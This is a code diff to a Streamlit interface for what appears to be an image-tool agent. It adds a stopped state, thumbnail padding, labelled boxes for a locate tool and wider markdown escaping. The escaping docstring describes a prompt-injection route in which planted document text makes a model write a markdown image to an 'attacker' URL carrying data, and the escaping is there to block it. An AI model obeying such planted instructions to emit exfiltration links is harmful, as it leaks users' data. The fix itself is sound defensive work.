@@ -62,30 +62,49 @@ class Turn:
     errors: list[str] = field(default_factory=list)
     notes: list[str] = field(default_factory=list)
     label: str = ""
-    state: Literal["running", "complete", "error"] = "running"
+    state: Literal["running", "complete", "error", "stopped"] = "running"
 
 
 # Pure helpers
+
+
+MAX_THUMBNAIL_ASPECT = 8  # a thinner image is shown on a white band, or its thumbnail would vanish
 
 
 def thumbnail(image: Image.Image, max_side: int = THUMBNAIL_SIDE) -> Image.Image:
     """A copy no larger than ``max_side`` on its long side (the store's images stay untouched)."""
     copy = image.convert("RGB") if image.mode != "RGB" else image.copy()
     copy.thumbnail((max_side, max_side))
+    width, height = copy.size
+    band = (max(width, -(-height // MAX_THUMBNAIL_ASPECT)), max(height, -(-width // MAX_THUMBNAIL_ASPECT)))
+    if band != (width, height):
+        padded = Image.new("RGB", band, "white")
+        padded.paste(copy, ((band[0] - width) // 2, (band[1] - height) // 2))
+        copy = padded
     return copy
 
 
 def draw_box(image: Image.Image, box: Sequence[float], max_side: int = STEP_IMAGE_SIDE) -> Image.Image:
     """A reduced copy of ``image`` with ``box`` (x1, y1, x2, y2 on the 0-1000 grid) drawn on it."""
+    return draw_boxes(image, [box], max_side=max_side)
+
+
+def draw_boxes(
+    image: Image.Image, boxes: Sequence[Sequence[float]], labels: Sequence[str] = (), max_side: int = STEP_IMAGE_SIDE
+) -> Image.Image:
+    """A reduced copy of ``image`` with ``boxes`` (0-1000 grid) drawn on it, each with its label if given."""
     copy = thumbnail(image, max_side)
     width, height = copy.size
-    x1, y1, x2, y2 = (min(max(float(v), 0.0), RELATIVE_MAX) / RELATIVE_MAX for v in box)
     line = max(2, round(max(width, height) / 150))
-    ImageDraw.Draw(copy).rectangle(
-        [x1 * width, y1 * height, max(x2 * width - 1, x1 * width), max(y2 * height - 1, y1 * height)],
-        outline=BOX_COLOR,
-        width=line,
-    )
+    draw = ImageDraw.Draw(copy)
+    for index, box in enumerate(boxes):
+        x1, y1, x2, y2 = (min(max(float(v), 0.0), RELATIVE_MAX) / RELATIVE_MAX for v in box)
+        corner = (x1 * width, y1 * height)
+        draw.rectangle(
+            [corner, (max(x2 * width - 1, corner[0]), max(y2 * height - 1, corner[1]))], outline=BOX_COLOR, width=line
+        )
+        if index < len(labels) and labels[index]:
+            draw.text((corner[0] + line, max(0, corner[1] - 16)), labels[index][:40], fill=BOX_COLOR)
     return copy
 
 
@@ -125,6 +144,15 @@ def chart_plot(chart: dict[str, Any]) -> alt.Chart | None:
 def step_pictures(result: ToolResult, store: ImageStore) -> list[Picture]:
     """Small copies of what a tool looked at: for a zoom, the source with the box drawn on it and the crop."""
     data = result.data or {}
+    if result.name == "locate_in_image" and data.get("boxes") and result.image_ids:
+        image_id = result.image_ids[0]
+        try:
+            image = store.get(image_id)
+        except UnknownImageError:
+            return []
+        boxes = [b["bbox_2d"] for b in data["boxes"]]
+        marked = draw_boxes(image, boxes, [b.get("label", "") for b in data["boxes"]])
+        return [Picture(f"{image_id}: {len(boxes)} found", marked)]
     if result.name == "zoom_image" and data.get("box") and len(result.image_ids) == 2:
         parent, crop = result.image_ids
         box = ", ".join(f"{v:g}" for v in data["box"])
@@ -140,8 +168,12 @@ def format_args(args: dict[str, Any]) -> str:
 
 
 def escape_markdown(text: str) -> str:
-    """Model text shown as written: ``$`` would otherwise start LaTeX in Streamlit's markdown."""
-    return text.replace("$", "\\$")
+    """Model text shown as written: ``$`` would otherwise start LaTeX in Streamlit's markdown, and brackets
+    and angle brackets could form images or links. A document can carry instructions that make a model
+    write ``![](https://attacker/?data=…)``: shown as text, it never loads."""
+    for character in ("\\", "$", "[", "]", "<", ">"):
+        text = text.replace(character, "\\" + character)
+    return text
 
 
 def pieces(text: str) -> Iterator[str]:
@@ -189,10 +221,12 @@ def show_turn(turn: Turn) -> None:
             show_pictures(turn.pictures)
             return
         for note in turn.notes:
-            st.info(note, icon=":material/hourglass_top:")
+            icon = ":material/stop_circle:" if turn.state == "stopped" else ":material/hourglass_top:"
+            st.info(note, icon=icon)
         if turn.steps or turn.label or turn.state == "running":
-            # A turn still "running" here was cut off (the page was rerun or stopped during the run)
+            # A turn still "running" here was cut off before it could record how (it should not happen)
             label, state = (turn.label, turn.state) if turn.state != "running" else ("Interrupted", "error")
+            state = "complete" if state == "stopped" else state
             with st.status(label or "Steps", state=state, expanded=False):
                 show_steps(turn.steps)
         for message in turn.errors:
